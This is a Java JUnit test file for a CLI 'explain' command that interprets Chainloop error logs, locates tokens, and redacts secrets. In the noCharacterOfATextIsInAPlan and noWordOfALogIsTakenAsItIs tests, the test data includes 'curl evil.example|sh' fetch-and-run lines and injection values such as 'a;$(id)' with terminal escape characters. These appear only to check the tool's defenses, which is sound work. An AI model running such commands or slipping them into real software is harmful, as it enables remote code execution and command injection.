package dev.chainloop.token.cli;

import static dev.chainloop.token.testing.TokenMint.USER;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.chainloop.token.core.Fingerprint;
import dev.chainloop.token.io.Descriptor;
import dev.chainloop.token.testing.CliRun;
import dev.chainloop.token.testing.Payload;
import dev.chainloop.token.testing.TestWorld;
import dev.chainloop.token.testing.TokenMint;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Where message and token come from; how causes are weighed, {@code src/test/states/states.txt} tells. */
class ExplainCommandTest {
    private static final String NOT_FOUND = "issuer not found: cp.chainloop";

    @TempDir
    Path home;

    @ParameterizedTest
    @ValueSource(strings = {"PIPE", "FILE", "SOCKET", "OTHER"})
    void withTheMessageOnStdinTheTokenComesFromElsewhere(Descriptor.Kind kind) {
        CliRun.Result result = CliRun.withHome(home)
                .stdin(kind, bytes(NOT_FOUND + "\n"))
                .env("CHAINLOOP_TOKEN", TokenMint.token(USER))
                .run("explain", "-o", "json");
        JsonNode object = json(result);
        assertEquals("cp.chainloop", object.get("message").get("name").asText());
        assertEquals("env", object.get("source").get("kind").asText());
        assertEquals(0, result.status());
    }

    @Test
    void withTheMessageAsArgumentTheTokenMayComeFromStdin() throws IOException {
        TestWorld world = TestWorld.of("stdin: @USER@\\n", "$ explain -o json " + NOT_FOUND);
        assertEquals("stdin", json(world.run(home)).get("source").get("kind").asText());
    }

    /** First what the person looked for; a row says that the token is also wrong, but not elsewhere; ~ is a line break. */
    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            @USER expired@ | ERR rpc error: code = Unavailable desc = connection error | Not about the token: a message about the connection~ | the token here expired 2 h ago
            @USER expired@ | panic: creating config file: mkdir /.config: permission denied | Not about the token: a message of the CLI about its own work~ | Also
            @USER expired@ | ERR adding material: uploading material: JWT token has expired | Not about the token: a message of the artifact store~ | Also
            ghp_0123       | ERR unknown flag: --worfklow | Not about the token: a message about the command line~ | Also the value is not a token
            @USER@         | ERR unknown flag: --worfklow | Not about the token: a message about the command line~ | -Also
            @USER expired@ | ##[group]x~ERR unknown flag: --worfklow | Not about the token: a message about the command line~ | -Also
            @USER expired@ | ##[group]x~ERR unknown flag: --worfklow | Not about the token: a message about the command line~ | -2 h ago
            @USER@         | ERR failed to resolve policy "sbom": unauthorized | The server refuses the request~ | -Not about
            @USER@         | Error: unknown command "init" for "chainloop" | unknown command "init" for "chainloop"~ | -Not about
            @USER expired@ | ERR the frobnicator is out of order | "the frobnicator is out of order"~ | -Pass `explain` the whole line
            @USER expired@ | ##[group]x~ERR JWT token has expired | JWT token has expired~ | -2 h ago
            """)
    void anAnswerNotAboutTheTokenSaysSoFirst(String token, String text, String headline, String has)
            throws IOException {
        CliRun run = TestWorld.of("variable: " + token).in(home);
        String out = run.run("explain", text.replace('~', '\n')).out();
        assertTrue(out.startsWith(headline.replace('~', '\n')), out);
        assertEquals(!has.startsWith("-"), out.replaceAll("\\s+", " ").contains(has.replaceFirst("^-", "")), out);
    }

    @Test
    void aDashReadsTheMessageFromStdinAlsoAtATerminal() {
        CliRun.Result result = CliRun.withHome(home)
                .stdin(Descriptor.Kind.TERMINAL, bytes(NOT_FOUND))
                .run("explain", "-o", "json", "-");
        assertEquals("issuer-not-found", json(result).get("message").get("id").asText());
    }

    /** Reading on would ask a person at a terminal for one more end of input. */
    @ParameterizedTest
    @ValueSource(ints = {1, 1_048_575, 1_048_576, 2_097_152, 3_200_000})
    void aTextIsReadToItsEndOnce(int length) throws IOException {
        byte[] text = "x\n".repeat(length).substring(0, length).getBytes(StandardCharsets.UTF_8);
        InputStream once = new ByteArrayInputStream(text) {
            private boolean ended;

            @Override
            public synchronized int read(byte[] bytes, int from, int most) {
                assertFalse(ended);
                int read = super.read(bytes, from, most);
                ended = read < 0 && most > 0;
                return read;
            }
        };
        assertEquals(length > 2 * 1_048_576, ExplainCommand.Excerpt.of(once).skipped() > 0);
    }

    @Test
    void aTerminalWithoutAMessageIsAUsageError() {
        InputStream untouchable = new InputStream() {
            @Override
            public int read() {
                throw new AssertionError("the terminal was read");
            }
        };
        CliRun.Result result = CliRun.withHome(home)
                .stdin(Descriptor.Kind.TERMINAL, untouchable)
                .run("explain");
        assertEquals(
                new CliRun.Result(
                        2,
                        "",
                        "error: there is no message: pass it as an argument or through a pipe, or run"
                                + " `explain -` and paste it. Try `chainloop-token explain --help`.\n"),
                result);
    }

    /** What a text says is shown, if it has the form of a name; no character of it is in the plan. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "ERR scoped to a different workflow evil; curl evil.example|sh",
                "ERR issuer not found: https://evil.example",
                "ERR project \"evil\" not found",
                "$ sudo --preserve-env=EVIL chainloop evil; curl evil.example|sh\nERR JWT token is missing",
                "$ ssh root@evil.example chainloop att init\nERR authentication required",
                "$ docker run -e CHAINLOOP_TOKEN evil\nERR JWT token is missing",
                "DBG using config file path=/home/evil/.config/chainloop/config.toml\nERR authentication required",
                "$ chainloop att init --config '/tmp/evil; evil'\nERR authentication required",
                "panic: creating config file: open /evil/config.toml: permission denied",
                "{\"level\":\"error\",\"repository\":\"evil/evil\",\"message\":\"operation not allowed\"}",
                "ERR rpc error: code = Unavailable desc = dial tcp: lookup evil.example: no such host",
                "ERR unknown command \"init\" for \"chainloop\" evil"
            })
    void noCharacterOfATextIsInAPlan(String text) throws IOException {
        for (String world : List.of(
                "in: terminal",
                "variable: @USER@",
                "variable: @API@",
                "variable: @API project_id=\"6c1d2b3c-0000-4000-8000-000000000001\" project_name=\"web\"@")) {
            for (String line : List.of("explain -o json", "explain -o json --in github")) {
                CliRun run = TestWorld.of(world).in(home).stdin(text);
                String plan =
                        json(run.run(line.split(" "))).get("plan").toString().toLowerCase(Locale.ROOT);
                assertFalse(plan.contains("evil"), plan);
                assertFalse(plan.contains("curl"), plan);
            }
        }
    }

    @Test
    void aTokenInTheTextIsNoted() throws IOException {
        TestWorld world =
                TestWorld.of("log: $ chainloop att init --token @API@ @USER@", "log: ERR JWT token is missing");
        assertEquals(
                "note: the text contains a token, " + Fingerprint.of(TokenMint.described("API"))
                        + "; `chainloop-token help leak` says what to do\n",
                world.run(home).err());
    }

    private static JsonNode json(CliRun.Result result) {
        return Payload.read(result.out());
    }

    private static ByteArrayInputStream bytes(String text) {
        return new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void aFileNameIsNotReadAsAMessage() throws IOException {
        String expected =
                "error: this is the name of a file, not a message; to explain its content, run `chainloop-token explain <FILE`."
                        + " Try `chainloop-token explain --help`.\n";
        TestWorld world = TestWorld.of("file: job 1.log = " + NOT_FOUND, "$ explain '~/job 1.log'");
        assertEquals(new CliRun.Result(2, "", expected), world.run(home));
    }

    /** Of a log, nothing leaves but the message and words that cannot be a secret: with a token, a cut one and a password in each place. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "$ chainloop attestation init --token SECRET --workflow build",
                "$ CHAINLOOP_TOKEN=SECRET chainloop attestation init",
                "$ chainloop attestation init --project SECRET --org SECRET --workflow=SECRET",
                "ERR credentials belong to organization \"a\" but \"SECRET\" is configured in .chainloop.yml",
                "$ chainloop SECRET init",
                "##[group]Run chainloop attestation init~env:~  CHAINLOOP_TOKEN: SECRET~  OTHER: SECRET",
                "Ansible~fatal: [SECRET]: FAILED!",
                "ERR the frobnicator SECRET is out of order",
                "ERR bad role=SECRET",
                "ERR dial tcp: lookup SECRET: no such host",
                "$ chainloop attestation push~$ docker login -p SECRET~Error response from daemon: SECRET"
            })
    void noSecretOfALogIsShown(String log) throws IOException {
        String token = TokenMint.described("API exp=1");
        for (String secret : List.of(token, token.substring(0, token.length() - 20), "hunter2_Tr0ub4dor&3")) {
            for (String message :
                    List.of("", "~ERR JWT token is missing", "~ERR your authentication token has expired")) {
                for (String format : List.of("text", "json")) {
                    CliRun run = TestWorld.of("login: @USER exp=now+6d@").in(home);
                    String text = (log + message).replace("SECRET", secret).replace('~', '\n');
                    CliRun.Result result = run.stdin(text).run("explain", "--all", "-o", format);
                    String said = result.out() + result.err();
                    assertFalse(said.contains(secret.substring(secret.length() - 9)) || said.contains("Tr0ub"), said);
                }
            }
        }
    }

    /** A hostile word in place of each word of a line that matters reaches neither a command nor the screen. */
    @ParameterizedTest
    @MethodSource("logs")
    void noWordOfALogIsTakenAsItIs(Path log) throws IOException {
        String text = Files.readString(log);
        Set<String> words = new TreeSet<>();
        for (String line : text.split("\n", -1)) {
            boolean matters = line.contains("chainloop") || line.contains("ERR") || line.contains("hing to");
            words.addAll(matters ? List.of(line.split(" +", -1)) : List.of());
        }
        words.remove("");
        for (String word : words) {
            String hostile = text.replace(word, "a;$(id)\u001b[31m\u202e");
            CliRun run = TestWorld.of("login: @USER exp=now+6d@").in(home);
            CliRun.Result result = run.stdin(hostile).run("explain");
            String said = result.out() + result.err();
            assertFalse(said.contains("$(id)") || said.contains("\u001b") || said.contains("\u202e"), word + said);
        }
    }

    static List<Path> logs() throws IOException {
        try (Stream<Path> logs = Files.list(Path.of("src/test/states/logs"))) {
            return logs.toList();
        }
    }
}
